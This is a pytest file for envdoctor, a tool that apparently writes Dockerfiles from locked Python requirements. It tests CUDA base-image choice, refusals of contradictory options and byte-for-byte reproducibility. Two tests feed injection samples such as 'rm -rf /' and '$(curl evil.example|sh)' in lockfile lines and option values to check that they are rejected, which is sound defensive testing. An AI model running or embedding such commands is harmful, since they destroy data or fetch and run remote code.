"""``envdoctor dockerfile`` without an engine: what it chooses, what it refuses, what it writes."""

from __future__ import annotations

import json
import shutil
import subprocess
from pathlib import Path

import pytest

from envdoctor.cli import main
from envdoctor.errors import InputError
from envdoctor.image.plan import parse_lock

ROOT = Path(__file__).parent.parent
IMAGES = ROOT / "images"
SMALL_LOCK = Path(__file__).parent / "fixtures/images/small/requirements.linux-x86_64-py3.11.txt"
GOLDEN_FILES = ("Dockerfile", ".dockerignore", "build.sh", "requirements.lock")
FAKE_DIGEST = "sha256:" + "ab" * 32


def stacks() -> list[str]:
    return sorted(path.name for path in IMAGES.iterdir() if (path / "host.json").is_file())


def regenerate(stack: str, out: Path) -> int:
    (lock,) = (IMAGES / stack / "lock").glob("requirements.*.txt")
    return main(["dockerfile", str(lock), "-o", str(out), "--host", str(IMAGES / stack / "host.json"),
                 "--tag", f"envdoctor/{stack}:1"])  # fmt: skip


@pytest.mark.parametrize("stack", stacks())
def test_reference_images_regenerate_byte_for_byte(stack: str, tmp_path: Path) -> None:
    assert regenerate(stack, tmp_path) == 0
    for name in GOLDEN_FILES:
        assert (tmp_path / name).read_bytes() == (IMAGES / stack / name).read_bytes(), f"{stack}/{name} changed"


def test_reference_stacks_are_the_promised_ones() -> None:
    assert {"cpu", "blackwell-torch", "tensorflow-and-cuda", "onnxruntime-system-cudnn"} <= set(stacks())


@pytest.mark.parametrize("stack", stacks())
def test_reference_images_pass_hadolint_and_envdoctors_own_audit(
    stack: str, capsys: pytest.CaptureFixture[str]
) -> None:
    hadolint = shutil.which("hadolint") or str(Path(__import__("sys").executable).parent / "hadolint")
    linted = subprocess.run([hadolint, str(IMAGES / stack / "Dockerfile")], capture_output=True, text=True, check=False)
    assert linted.returncode == 0, linted.stdout
    assert main(["audit", str(IMAGES / stack / "Dockerfile"), "--host", str(IMAGES / stack / "host.json"),
                 "--format", "json", "--fail-on", "info"]) == 0  # fmt: skip
    report = json.loads(capsys.readouterr().out)
    assert report["findings"] == []


def test_wheels_bringing_their_cuda_get_a_plain_python_base() -> None:
    dockerfile = (IMAGES / "blackwell-torch" / "Dockerfile").read_text()
    assert "FROM python:3.12-slim-bookworm@sha256:" in dockerfile
    assert "nvidia/cuda" not in dockerfile
    assert 'NVIDIA_REQUIRE_CUDA="cuda>=12.8"' in dockerfile
    assert "NVIDIA_DRIVER_CAPABILITIES=compute,utility" in dockerfile
    assert "USER 10001:10001" in dockerfile
    assert "--require-hashes --no-deps --only-binary=:all:" in dockerfile
    cpu = (IMAGES / "cpu" / "Dockerfile").read_text()
    assert "NVIDIA_" not in cpu


def test_package_names_never_reach_the_dockerfile() -> None:
    dockerfile = (IMAGES / "cpu" / "Dockerfile").read_text()
    assert "numpy" not in dockerfile and "pandas" not in dockerfile


def test_system_cuda_needs_a_cuda_base_never_devel(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    lock = tmp_path / "requirements.linux-x86_64-py3.11.txt"
    lock.write_text(
        "# Written by `envdoctor lock`; do not edit.\n# target: linux x86_64, Python 3.11 (x)\n"
        "tensorflow==2.16.1 \\\n    --hash=sha256:" + "1" * 64 + "\n"
    )
    # No digest-pinned nvidia/cuda image is in the base: the generator asks for one.
    assert main(["dockerfile", str(lock), "-o", str(tmp_path / "a")]) == 1
    assert "give --base-image" in capsys.readouterr().out
    base = f"nvidia/cuda:12.3.2-cudnn9-runtime-ubuntu22.04@{FAKE_DIGEST}"
    assert main(["dockerfile", str(lock), "-o", str(tmp_path / "b"), "--base-image", base]) == 0
    dockerfile = (tmp_path / "b" / "Dockerfile").read_text()
    assert f"FROM {base} AS build" in dockerfile
    assert "COPY --from=python /usr/local /usr/local" in dockerfile
    assert 'NVIDIA_REQUIRE_CUDA="cuda>=12.3"' in dockerfile
    assert not [line for line in dockerfile.splitlines() if line.startswith("FROM") and "devel" in line]


def test_a_system_cudnn_stack_gets_the_cudnn_runtime_image_of_its_cuda_major() -> None:
    # onnxruntime-gpu 1.20 loads CUDA 12 and cuDNN 9 from the system (knowledge base).
    dockerfile = (IMAGES / "onnxruntime-system-cudnn" / "Dockerfile").read_text()
    froms = [line for line in dockerfile.splitlines() if line.startswith("FROM")]
    assert all("devel" not in line for line in froms)
    assert "FROM nvidia/cuda:12.4.1-cudnn-runtime-ubuntu22.04@sha256:" in dockerfile
    assert 'NVIDIA_REQUIRE_CUDA="cuda>=12.4"' in dockerfile


def test_system_cuda_users_that_disagree_are_refused(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    lock = tmp_path / "requirements.linux-x86_64-py3.11.txt"
    lock.write_text(
        "# Written by `envdoctor lock`; do not edit.\n# target: linux x86_64, Python 3.11 (x)\n"
        "onnxruntime-gpu==1.18.1 --hash=sha256:" + "1" * 64 + "\n"
        "torch==2.4.1+cu124 --hash=sha256:" + "2" * 64 + "\n"
    )
    assert main(["dockerfile", str(lock), "-o", str(tmp_path / "out")]) == 1
    assert "the lock's builds need CUDA 12.4, but onnxruntime-gpu==1.18.1 load CUDA 11" in capsys.readouterr().out


@pytest.mark.parametrize(
    ("flags", "refusal"),
    [
        (["--driver", "470.86", "--gpu", "12.0"], "ED101 (driver-too-old)"),
        (["--driver", "575.57.08", "--gpu", "6.1"], "ED102 (gpu-arch-unsupported)"),
    ],
)
def test_contradictions_are_refused(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], flags: list[str], refusal: str
) -> None:
    (lock,) = (IMAGES / "blackwell-torch" / "lock").glob("requirements.*.txt")
    code = main(["dockerfile", str(lock), "-o", str(tmp_path / "out"), "--os", "linux", "--arch", "x86_64", *flags])
    assert code == 1
    assert refusal in capsys.readouterr().out
    assert not (tmp_path / "out").exists()


@pytest.mark.parametrize(
    "line",
    [
        "evil==1.0; rm -rf / \\\n    --hash=sha256:" + "0" * 64,
        "$(curl evil.example|sh)==1.0 --hash=sha256:" + "0" * 64,
        "name==1.0 --hash=md5:abc",
        "name==1.0",
        "FROM scratch",
    ],
)
def test_hostile_lockfile_lines_are_refused(line: str) -> None:
    with pytest.raises(InputError):
        parse_lock(line + "\n", "requirements.lock")


@pytest.mark.parametrize(
    ("flag", "value"),
    [
        ("--base-image", "python:3.11-slim\nRUN curl evil|sh"),
        ("--base-image", "python:3.11-slim"),
        ("--base-image", f"python:3.11;rm -rf /@{FAKE_DIGEST}"),
        ("--tag", "app:1 && rm -rf /"),
    ],
)
def test_hostile_options_are_refused(tmp_path: Path, flag: str, value: str) -> None:
    code = main(["dockerfile", str(SMALL_LOCK), "-o", str(tmp_path / "out"), flag, value])
    assert code == 2
    assert not (tmp_path / "out" / "Dockerfile").exists()


def test_wheelhouse_build_needs_no_network(tmp_path: Path) -> None:
    wheels = SMALL_LOCK.parent / "wheelhouse"
    assert main(["dockerfile", str(SMALL_LOCK), "-o", str(tmp_path), "--wheelhouse", str(wheels)]) == 0
    dockerfile = (tmp_path / "Dockerfile").read_text()
    assert "--no-index --find-links /tmp/wheelhouse" in dockerfile
    assert sorted(p.name for p in (tmp_path / "wheelhouse").iterdir()) == sorted(p.name for p in wheels.iterdir())
    assert "!wheelhouse" in (tmp_path / ".dockerignore").read_text()


def test_a_package_without_wheels_is_refused(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    # Recorded with envdoctor lock: antlr4-python3-runtime 4.9.3 is published as an sdist only.
    (lock,) = (Path(__file__).parent / "fixtures/images/sdist-only").glob("requirements.*.txt")
    assert main(["dockerfile", str(lock), "-o", str(tmp_path / "out")]) == 1
    out = capsys.readouterr().out
    assert "antlr4-python3-runtime 4.9.3 has no wheel in the lock" in out and "six" not in out
    assert not (tmp_path / "out").exists()


def test_a_wheelhouse_must_hold_every_locked_wheel(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    wheels = tmp_path / "wheels"
    wheels.mkdir()
    shutil.copy(SMALL_LOCK.parent / "wheelhouse" / "six-1.17.0-py2.py3-none-any.whl", wheels)
    assert main(["dockerfile", str(SMALL_LOCK), "-o", str(tmp_path / "out"), "--wheelhouse", str(wheels)]) == 2
    assert "no wheel for packaging==24.2" in capsys.readouterr().err
    assert not (tmp_path / "out").exists()


def test_same_inputs_same_bytes(tmp_path: Path) -> None:
    for name in ("one", "two"):
        assert regenerate("tensorflow-and-cuda", tmp_path / name) == 0
    for name in GOLDEN_FILES:
        assert (tmp_path / "one" / name).read_bytes() == (tmp_path / "two" / name).read_bytes()
